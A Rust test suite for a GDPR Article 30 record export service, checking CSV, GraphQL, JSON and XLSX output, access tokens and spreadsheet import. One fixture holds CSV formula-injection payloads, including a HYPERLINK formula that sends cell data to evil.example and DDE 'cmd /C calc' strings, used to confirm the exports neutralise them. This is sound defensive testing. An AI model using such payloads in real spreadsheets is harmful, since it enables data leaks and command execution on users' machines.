//! The Article 30 record: the CSV of every seed organisation, cell by cell
//! for a known activity, formulas neutralised, the same rows through HTTP,
//! GraphQL, JSON and XLSX.

use axum::http::StatusCode;
use serde_json::json;

use crate::support::{TestApp, each_backend, seeds};

fn csv_of(reply: &crate::support::Reply) -> String {
    String::from_utf8(reply.body.to_vec()).unwrap()
}

/// The records of `text` as header → cell maps.
fn read_csv(text: &str) -> Vec<std::collections::HashMap<String, String>> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    reader
        .records()
        .map(|record| {
            let record = record.unwrap();
            headers
                .iter()
                .map(str::to_owned)
                .zip(record.iter().map(str::to_owned))
                .collect()
        })
        .collect()
}

#[tokio::test]
async fn every_seed_organisation_has_its_record() {
    each_backend(|app| async move {
        for organization in seeds::apply_all(&app).await {
            let reply = app
                .download(&format!("/export/article30/{organization}.csv"))
                .await;
            assert_eq!(reply.content_type(), "text/csv; charset=utf-8");
            let csv = csv_of(&reply);
            insta::with_settings!({ snapshot_suffix => organization.as_str() }, {
                insta::assert_snapshot!("article30_controller", csv);
            });
            let rows = read_csv(&csv);
            assert!(
                !rows.is_empty(),
                "{organization} has no controller activity"
            );
            assert!(rows.iter().all(|row| !row["Controller"].is_empty()));
        }
        let processor = app
            .download("/export/article30/cloudinary.csv?role=processor")
            .await;
        insta::assert_snapshot!("article30_processor@cloudinary", csv_of(&processor));
        let none = app
            .download("/export/article30/minio.csv?role=processor")
            .await;
        assert_eq!(
            read_csv(&csv_of(&none)).len(),
            0,
            "minio processes nothing for others"
        );
    })
    .await;
}

#[tokio::test]
async fn the_cells_of_a_known_activity() {
    each_backend(|app| async move {
        seeds::apply_all(&app).await;
        let csv = csv_of(&app.download("/export/article30/minio.csv").await);
        let rows = read_csv(&csv);
        let row = rows
            .iter()
            .find(|row| row["Reference"] == "minio-customer-relationships")
            .expect("the customer relationships activity");
        assert_eq!(
            row["Processing activity"],
            "Managing relationships with business customers, partners and vendors"
        );
        assert_eq!(
            row["Categories of personal data"],
            "Email address; Job title and department; Name; Telephone number"
        );
        assert_eq!(row["Categories of individuals"], "Contacts at customers, partners and vendors");
        assert_eq!(
            row["Names of third countries or international organisations that personal data are transferred to (if applicable)"],
            "Canada (CA); Switzerland (CH); The United States of America (US)"
        );
        assert!(row["Categories of recipients"].contains("Service providers acting on our behalf (kind: processor)"));
        assert!(row["The source of the personal data (if applicable)"]
            .contains("Email address: The person, who provides it (kind: the data subject)"));
        assert_eq!(row["Controller"], "MinIO, Inc.");
        assert_eq!(
            row["Controller address"],
            "275 Shoreline Dr, Ste 100, Redwood City, CA 94065, United States"
        );
        assert_eq!(row["Status"], "active");
        // MinIO's policy states no lawful basis for it, so no rights can be
        // derived and the cells stay empty rather than guessed.
        assert_eq!(row["Article 6 lawful basis for processing personal data"], "");
        assert_eq!(row["Rights available to individuals"], "");
        // Rows come in key order, and every row has every column.
        let references: Vec<&str> = rows.iter().map(|row| row["Reference"].as_str()).collect();
        let mut sorted = references.clone();
        sorted.sort();
        assert_eq!(references, sorted);
    })
    .await;
}

#[tokio::test]
async fn lawful_bases_give_the_rights() {
    each_backend(|app| async move {
        seeds::apply_all(&app).await;
        let rows = read_csv(&csv_of(
            &app.download("/export/article30/mirantis.csv").await,
        ));
        let with_basis = rows
            .iter()
            .find(|row| !row["Article 6 lawful basis for processing personal data"].is_empty())
            .expect("mirantis states lawful bases");
        let bases = &with_basis["Article 6 lawful basis for processing personal data"];
        let rights = &with_basis["Rights available to individuals"];
        assert!(rights.contains("access (Art. 15)"), "{rights}");
        assert_eq!(
            rights.contains("withdraw consent"),
            bases.contains("Art. 6(1)(a) consent"),
            "{bases} / {rights}"
        );
        assert_eq!(
            rights.contains("object (Art. 21(1))"),
            bases.contains("(e) public task") || bases.contains("(f) legitimate interests"),
            "{bases} / {rights}"
        );
    })
    .await;
}

const HOSTILE: &str = r#"
[organization]
key = "hostile"
name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
address = "@SUM(1+1)*cmd|' /C calc'!A0"

[[purposes]]
key = "hostile-purpose"
name = "+cmd|' /C notepad'!A0"

[[data_categories]]
key = "hostile-category"
name = "-2+3"

[[activities]]
key = "hostile-activity"
name = "=1+1"
description = "'already quoted"
purposes = [{ purpose = "hostile-purpose" }]
data_categories = [{ data_category = "hostile-category" }]
"#;

#[tokio::test]
async fn formulas_in_names_never_run_in_a_spreadsheet() {
    each_backend(|app| async move {
        seeds::apply_text(&app, "hostile.toml", HOSTILE).await;
        let csv = csv_of(
            &app.download("/export/article30/hostile.csv?excel=true")
                .await,
        );
        assert!(csv.starts_with('\u{feff}'), "Excel CSV starts with a BOM");
        assert!(csv.contains("\r\n"), "and ends lines with CRLF");
        let rows = read_csv(csv.trim_start_matches('\u{feff}'));
        let row = &rows[0];
        assert_eq!(row["Processing activity"], "'=1+1");
        assert_eq!(row["Description"], "''already quoted");
        assert_eq!(row["Purpose of processing"], "'+cmd|' /C notepad'!A0");
        assert_eq!(row["Categories of personal data"], "'-2+3");
        assert_eq!(
            row["Controller"],
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
        );
        assert_eq!(row["Controller address"], "'@SUM(1+1)*cmd|' /C calc'!A0");
        for (header, cell) in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{header}: {cell}"
            );
        }
        // JSON is for machines: the values as they are.
        let json = app.download("/export/article30/hostile.json").await.json();
        assert_eq!(json["activities"][0]["activity"], "=1+1");
    })
    .await;
}

#[tokio::test]
async fn graphql_json_and_csv_give_the_same_rows() {
    each_backend(|app| async move {
        seeds::apply_all(&app).await;
        let data = app
            .ok(
                "query($org: String!) { article30(organization: $org) { role columns { id header ico several } rows { reference cells { column text values } } csv } }",
                json!({"org": "minio"}),
            )
            .await;
        let record = &data["article30"];
        assert_eq!(record["role"], "CONTROLLER");
        let csv = csv_of(&app.download("/export/article30/minio.csv").await);
        assert_eq!(record["csv"], csv.as_str());
        let rows = read_csv(&csv);
        let graphql_rows = record["rows"].as_array().unwrap();
        assert_eq!(graphql_rows.len(), rows.len());
        let columns = record["columns"].as_array().unwrap();
        for (graphql_row, csv_row) in graphql_rows.iter().zip(&rows) {
            for (column, cell) in columns.iter().zip(graphql_row["cells"].as_array().unwrap()) {
                let header = column["header"].as_str().unwrap();
                assert_eq!(csv_row[header], cell["text"].as_str().unwrap(), "{header}");
            }
        }
        let json = app.download("/export/article30/minio.json").await;
        assert_eq!(json.content_type(), "application/json; charset=utf-8");
        let json = json.json();
        assert_eq!(json["record"], "controller");
        assert_eq!(json["organization"]["key"], "minio");
        assert_eq!(json["activities"].as_array().unwrap().len(), rows.len());
        let first = &json["activities"][0];
        assert_eq!(first["reference"], rows[0]["Reference"].as_str());
        assert_eq!(
            first["data_categories"].as_array().unwrap().len(),
            graphql_rows[0]["cells"][8]["values"].as_array().unwrap().len()
        );
    })
    .await;
}

#[tokio::test]
async fn the_workbook_has_a_sheet_per_record_and_the_transfers() {
    each_backend(|app| async move {
        seeds::apply_all(&app).await;
        let reply = app.download("/export/article30/cloudinary.xlsx").await;
        assert_eq!(
            reply.content_type(),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        );
        assert!(
            reply.body.starts_with(b"PK"),
            "an XLSX file is a zip archive"
        );
        let disposition = reply.headers["content-disposition"].to_str().unwrap();
        assert_eq!(
            disposition,
            "attachment; filename=\"cloudinary-article30.xlsx\""
        );
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(reply.body.to_vec())).unwrap();
        let mut part = |name: &str| {
            let mut text = String::new();
            std::io::Read::read_to_string(&mut archive.by_name(name).unwrap(), &mut text).unwrap();
            text
        };
        let workbook = part("xl/workbook.xml");
        for sheet in [
            "Organisation",
            "Controller record",
            "Processor record",
            "International transfers",
        ] {
            assert!(
                workbook.contains(&format!("name=\"{sheet}\"")),
                "no sheet {sheet}: {workbook}"
            );
        }
        // Sheets written in constant memory hold their strings inline.
        let sheets: String = (1..=4)
            .map(|sheet| part(&format!("xl/worksheets/sheet{sheet}.xml")))
            .collect();
        for text in [
            "Cloudinary Ltd.",
            "Purpose of processing",
            "Media management platform (on behalf of customers)",
            "Personal information from the EU processed in the United States under the EU-US Privacy Shield",
        ] {
            assert!(sheets.contains(text), "{text} is not in the workbook");
        }
        for sheet in 2..=4 {
            let xml = part(&format!("xl/worksheets/sheet{sheet}.xml"));
            assert!(
                xml.contains("state=\"frozen\""),
                "sheet {sheet}: the header is not frozen"
            );
            assert!(xml.contains("<col "), "sheet {sheet}: no column widths");
            assert!(!xml.contains("<f>"), "sheet {sheet}: a cell is a formula");
        }
        let styles = part("xl/styles.xml");
        assert!(styles.contains("wrapText=\"1\""), "no wrapped text");
    })
    .await;
}

#[tokio::test]
async fn exports_need_a_token_and_name_what_is_wrong() {
    each_backend(|app| async move {
        seeds::apply_all(&app).await;
        let anonymous = app.get_as(None, "/export/article30/minio.csv").await;
        assert_eq!(anonymous.status, StatusCode::UNAUTHORIZED);
        let revoked = app
            .get_as(Some(&app.tokens.revoked), "/export/article30/minio.csv")
            .await;
        assert_eq!(revoked.status, StatusCode::UNAUTHORIZED);

        let viewer = Some(app.tokens.viewer.as_str());
        let unknown = app.get_as(viewer, "/export/article30/nobody.csv").await;
        assert_eq!(unknown.status, StatusCode::NOT_FOUND);
        assert_eq!(
            unknown.json()["errors"][0]["extensions"]["code"],
            "NOT_FOUND"
        );
        let format = app.get_as(viewer, "/export/article30/minio.pdf").await;
        assert_eq!(format.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(
            format.json()["errors"][0]["message"]
                .as_str()
                .unwrap()
                .contains("minio.csv")
        );
        let role = app
            .get_as(viewer, "/export/article30/minio.csv?role=owner")
            .await;
        assert_eq!(role.status, StatusCode::UNPROCESSABLE_ENTITY);

        let graphql = app
            .error("{ article30(organization: \"nobody\") { csv } }", json!({}))
            .await;
        assert_eq!(graphql["extensions"]["code"], "NOT_FOUND");
    })
    .await;
}

const IMPORT: &str = "mutation($org: String!, $document: String!, $skip: Boolean!) { importArticle30(organization: $org, document: $document, skipInvalid: $skip) { role importedRows skipped notes ignoredColumns applied { summary created updated } } }";

/// Imports `document` for `organization` as an editor; the response.
async fn import(
    app: &TestApp,
    organization: &str,
    document: &str,
    skip: bool,
) -> serde_json::Value {
    app.graphql_as(
        Some(&app.tokens.editor),
        IMPORT,
        json!({"org": organization, "document": document, "skip": skip}),
    )
    .await
    .json()
}

#[tokio::test]
async fn every_seed_record_round_trips_through_an_empty_database() {
    each_backend(|app| async move {
        let empty = app.another().await;
        let mut records = Vec::new();
        for organization in seeds::apply_all(&app).await {
            records.push((
                organization.clone(),
                format!("/export/article30/{organization}.csv"),
            ));
        }
        records.push((
            "cloudinary".to_owned(),
            "/export/article30/cloudinary.csv?role=processor".to_owned(),
        ));
        for (organization, path) in &records {
            let exported = csv_of(&app.download(path).await);
            let response = import(&empty, organization, &exported, false).await;
            assert!(
                response.get("errors").is_none(),
                "{organization}: {response:#}"
            );
            let report = &response["data"]["importArticle30"];
            assert_eq!(report["importedRows"], read_csv(&exported).len());
            assert_eq!(report["skipped"], json!([]));
            assert_eq!(report["notes"], json!([]));
            assert_eq!(
                csv_of(&empty.download(path).await),
                exported,
                "{path} changed on the way"
            );
        }
        // Importing a record into the graph it came from changes nothing.
        let minio = csv_of(&app.download("/export/article30/minio.csv").await);
        let again = import(&app, "minio", &minio, false).await;
        let applied = &again["data"]["importArticle30"]["applied"];
        assert_eq!(
            (applied["created"].as_u64(), applied["updated"].as_u64()),
            (Some(0), Some(0)),
            "{again:#}"
        );
        empty.finish().await;
    })
    .await;
}

const ICO_REGISTER: &str = include_str!("data/ico-register.csv");

#[tokio::test]
async fn a_spreadsheet_in_the_ico_layout_becomes_activities() {
    each_backend(|app| async move {
        seeds::apply_text(&app, "catalog.toml", seeds::CATALOG).await;
        let response = import(&app, "acme", ICO_REGISTER, false).await;
        assert!(response.get("errors").is_none(), "{response:#}");
        let report = &response["data"]["importArticle30"];
        assert_eq!(report["role"], "CONTROLLER");
        assert_eq!(report["importedRows"], 2);
        let csv = csv_of(&app.download("/export/article30/acme.csv").await);
        insta::assert_snapshot!("article30_controller@ico-import", csv);
        let rows = read_csv(&csv);
        let payroll = rows.iter().find(|row| row["Reference"] == "acme-payroll").unwrap();
        assert_eq!(payroll["Controller"], "Acme Analytics Ltd", "from the contact block above the header");
        assert_eq!(payroll["Data protection officer"], "Dana Protector");
        assert_eq!(payroll["Article 6 lawful basis for processing personal data"], "Payroll: Art. 6(1)(c) legal obligation");
        assert_eq!(payroll["Categories of individuals"], "Employees", "the shared catalogue's entry");
        assert_eq!(
            payroll["Names of third countries or international organisations that personal data are transferred to (if applicable)"],
            "India (IN)",
            "a country named alone becomes a transfer to it, its mechanism left for the lint to ask about"
        );
        // The organisation's own new entries carry its key; shared ones stay shared.
        let employees = app.ok("{ dataSubjectCategory(key: \"employees\") { key } }", json!({})).await;
        assert_eq!(employees["dataSubjectCategory"]["key"], "employees");
        // A second import of the same sheet changes nothing.
        let again = import(&app, "acme", ICO_REGISTER, false).await;
        let applied = &again["data"]["importArticle30"]["applied"];
        assert_eq!((applied["created"].as_u64(), applied["updated"].as_u64()), (Some(0), Some(0)), "{again:#}");
        // A later sheet with only some columns changes only those, of the
        // activity it names.
        let update = "Processing activity,Article 6 lawful basis for processing personal data\nPayroll,Art. 6(1)(b) contract\n";
        let updated = import(&app, "acme", update, false).await;
        assert_eq!(updated["data"]["importArticle30"]["applied"]["updated"], 1, "{updated:#}");
        let rows = read_csv(&csv_of(&app.download("/export/article30/acme.csv").await));
        let payroll = rows.iter().find(|row| row["Reference"] == "acme-payroll").unwrap();
        assert_eq!(payroll["Article 6 lawful basis for processing personal data"], "Payroll: Art. 6(1)(b) contract");
        assert_eq!(payroll["Categories of individuals"], "Employees");
        // Every change is in the audit trail, by the editor who imported.
        let audit = app
            .ok("{ auditLog(entity: PROCESSING_ACTIVITY, key: \"acme-payroll\") { edges { node { action actor } } } }", json!({}))
            .await;
        assert_eq!(audit["auditLog"]["edges"][0]["node"]["actor"], "token:test-editor", "{audit:#}");
    })
    .await;
}

const BROKEN: &str = "\
Reference,Processing activity,Purpose of processing,Categories of recipients,Article 6 lawful basis for processing personal data,Names of third countries or international organisations that personal data are transferred to (if applicable),Favourite colour
good-one,Good activity,Billing,,Art. 6(1)(b) contract,,blue
bad-basis,Bad basis,Billing,,Because we can,,red
bad-recipient,Unknown recipient,Billing,Mystery Corp,,,green
bad-country,Bad country,Billing,,,Atlantis,
Not A Key!,Bad reference,Billing,,,,
";

#[tokio::test]
async fn rows_that_cannot_be_read_are_named_and_nothing_is_written() {
    each_backend(|app| async move {
        let tables = [
            "organization",
            "processing_activity",
            "purpose",
            "audit_entry",
        ];
        let mut before = Vec::new();
        for table in tables {
            before.push(app.count(table).await);
        }
        let response = import(&app, "acme", BROKEN, false).await;
        let error = &response["errors"][0];
        assert_eq!(error["extensions"]["code"], "VALIDATION");
        insta::assert_json_snapshot!("article30_import_problems", error["extensions"]["problems"]);
        let mut after = Vec::new();
        for table in tables {
            after.push(app.count(table).await);
        }
        assert_eq!(before, after, "a refused import wrote something");

        let skipping = import(&app, "acme", BROKEN, true).await;
        let report = &skipping["data"]["importArticle30"];
        assert_eq!(report["importedRows"], 1, "{skipping:#}");
        assert_eq!(report["skipped"].as_array().unwrap().len(), 4);
        assert_eq!(report["ignoredColumns"], json!(["Favourite colour"]));
        let rows = read_csv(&csv_of(&app.download("/export/article30/acme.csv").await));
        assert_eq!(rows.len(), 1);
        assert_eq!(rows[0]["Reference"], "good-one");
        assert_eq!(
            rows[0]["Article 6 lawful basis for processing personal data"],
            "Billing: Art. 6(1)(b) contract"
        );
    })
    .await;
}

#[tokio::test]
async fn files_that_are_no_record_say_why() {
    each_backend(|app| async move {
        for (document, expected) in [
            ("just,some,words\n1,2,3\n", "no header row"),
            (
                "Processing activity,Purpose of processing,Purpose of processing\nA,B,C\n",
                "is there twice",
            ),
            (
                "Processing activity,Status\nNapping,sleeping\n",
                "'sleeping' is not one of 'planned', 'active', 'retired'",
            ),
            (
                "Processing activity,Description\n,Only a description\n",
                "row 2, column A (Processing activity): the row names no processing activity",
            ),
            ("", "no header row"),
        ] {
            let response = import(&app, "acme", document, false).await;
            let error = &response["errors"][0];
            assert_eq!(
                error["extensions"]["code"], "VALIDATION",
                "{document:?}: {response:#}"
            );
            assert!(
                error["message"].as_str().unwrap().contains(expected),
                "{document:?}: {error:#}"
            );
        }
        assert_eq!(app.count("processing_activity").await, 0);
    })
    .await;
}

#[tokio::test]
async fn hostile_names_survive_the_round_trip() {
    each_backend(|app| async move {
        seeds::apply_text(&app, "hostile.toml", HOSTILE).await;
        let exported = csv_of(&app.download("/export/article30/hostile.csv").await);
        let empty = app.another().await;
        let response = import(&empty, "hostile", &exported, false).await;
        assert!(response.get("errors").is_none(), "{response:#}");
        assert_eq!(
            csv_of(&empty.download("/export/article30/hostile.csv").await),
            exported
        );
        let name = empty
            .ok(
                "{ processingActivity(key: \"hostile-activity\") { name } }",
                json!({}),
            )
            .await;
        assert_eq!(
            name["processingActivity"]["name"], "=1+1",
            "the guard is taken off on the way in"
        );
        empty.finish().await;
    })
    .await;
}

/// One of everything the record shows, including what no seed has: joint
/// controllers, representatives, systems, special category conditions, a
/// transfer to a recipient the activity does not list.
const EVERY_COLUMN: &str = r#"
[organization]
key = "rich"
name = "Rich Data GmbH"
address = "Musterstraße 1, 10115 Berlin"
country = "DE"
email = "privacy@rich.example"
phone = "+49 30 000000"
dpo_name = "Dr. Daten Schutz"
dpo_email = "dpo@rich.example"
dpo_phone = "+49 30 000001"
dpo_address = "Musterstraße 1; 10115 Berlin"
eu_representative = "rich-eu-rep"
uk_representative = "rich-uk-rep"

[[organizations]]
key = "rich-eu-rep"
name = "EU Rep SARL"
address = "1 Rue Exemple, Paris"
email = "rep@eu-rep.example"

[[organizations]]
key = "rich-uk-rep"
name = "UK Rep Ltd"
phone = "+44 20 0000 0000"

[[organizations]]
key = "rich-partner"
name = "Partner Clinic (Joint) AG"
email = "privacy@partner.example"
address = "Klinikweg 2, Zürich"

[[purposes]]
key = "rich-care"
name = "Care: treatment planning"

[[purposes]]
key = "rich-fraud"
name = "Fraud prevention"

[[retention_rules]]
key = "rich-ten-years"
name = "Medical records"
period = "P10Y"
runs_from = "the last treatment"
legal_requirement = "Professional code; national law"
end_action = "anonymise"
policy_url = "https://rich.example/retention"

[[retention_rules]]
key = "rich-case-closed"
name = "Fraud cases"
criteria = "Until the case is closed, then 6 months"
end_action = "delete"

[[data_categories]]
key = "rich-health"
name = "Health data"
sensitivity = "special_category"
special_category_kind = "health"
retention_rules = ["rich-ten-years"]

[[data_categories]]
key = "rich-convictions"
name = "Criminal convictions"
sensitivity = "criminal"

[[data_subjects]]
key = "rich-patients"
name = "Patients"
vulnerable = true

[[sources]]
key = "rich-referrals"
name = "Referring doctors"
kind = "third_party"

[[recipients]]
key = "rich-lab"
name = "Lab Services Inc."
kind = "processor"
country = "US"
contract_url = "https://rich.example/contracts/lab"

[[recipients]]
key = "rich-backup-vendor"
name = "Backup Vendor Ltd"
kind = "processor"
country = "GB"

[[transfers]]
key = "rich-lab-transfer"
name = "Samples data to the lab"
recipient = "rich-lab"
country = "US"
mechanism = "standard_contractual_clauses"
scc_module = "controller_to_processor"
safeguard_url = "https://rich.example/scc"
safeguard_access = "Ask the DPO for a copy"
contract_date = 2022-03-01

[[transfers]]
key = "rich-backup-transfer"
name = "Backups to the UK"
recipient = "rich-backup-vendor"
country = "GB"
mechanism = "adequacy_decision"
occasional = false

[[transfers]]
key = "rich-one-off"
name = "One-off transfer for a claim"
country = "BR"
mechanism = "derogation"
derogation = "legal_claims"
occasional = true

[[systems]]
key = "rich-ehr"
name = "Patient records system"
hosting_country = "DE"
location = "Frankfurt data centre"
vendor = "rich-backup-vendor"

[[security_measures]]
key = "rich-encryption"
name = "Encryption"
kind = "technical"
description = "AES-256 at rest; TLS 1.3 in transit"

[[activities]]
key = "rich-treatment"
name = "Treatment"
description = "Planning and recording treatment."
status = "active"
business_function = "Clinical"
role = "joint_controller"
controllers = ["rich-partner"]
automated_decision_making = true
automated_decision_details = "Triage scores order the waiting list"
dpia_required = true
dpia_status = "completed"
dpia_url = "https://rich.example/dpia/treatment"
consent_record_url = "https://rich.example/consents"
breach_occurred = false
uk_schedule1_condition = "Para 2: health or social care purposes"
retention_policy_followed = false
retention_deviation_reason = "Legacy archive; migration planned"
purposes = [
  { purpose = "rich-care", lawful_basis = "contract", special_category_condition = "health_or_social_care" },
  { purpose = "rich-fraud", lawful_basis = "legitimate_interests", legitimate_interest = "Preventing fraud: against us; and patients", legitimate_interests_assessment_url = "https://rich.example/lia/fraud", criminal_offence_condition = "Sch. 1 para 10: preventing unlawful acts" },
]
data_categories = [
  { data_category = "rich-health", source = "rich-referrals" },
  { data_category = "rich-convictions" },
]
data_subjects = ["rich-patients"]
recipients = ["rich-lab"]
transfers = ["rich-lab-transfer", "rich-backup-transfer", "rich-one-off"]
retention_rules = ["rich-case-closed"]
systems = ["rich-ehr"]
security_measures = ["rich-encryption"]

[[activities]]
key = "rich-planned"
name = "Research registry"
status = "planned"
purposes = [{ purpose = "rich-care" }]
"#;

#[tokio::test]
async fn every_column_round_trips() {
    each_backend(|app| async move {
        seeds::apply_text(&app, "rich.toml", EVERY_COLUMN).await;
        let exported = csv_of(&app.download("/export/article30/rich.csv").await);
        insta::assert_snapshot!("article30_controller@every-column", exported);
        let rows = read_csv(&exported);
        let left_empty = [
            "Link to record of personal data breach",
            "EU representative telephone",
            "UK representative address",
            "UK representative email",
        ];
        for (header, cell) in &rows[1] {
            assert_eq!(
                cell.is_empty(),
                left_empty.contains(&header.as_str()),
                "\"{header}\": {cell:?}"
            );
        }
        let empty = app.another().await;
        let response = import(&empty, "rich", &exported, false).await;
        assert!(response.get("errors").is_none(), "{response:#}");
        assert_eq!(response["data"]["importArticle30"]["notes"], json!([]));
        assert_eq!(
            csv_of(&empty.download("/export/article30/rich.csv").await),
            exported
        );
        empty.finish().await;
    })
    .await;
}
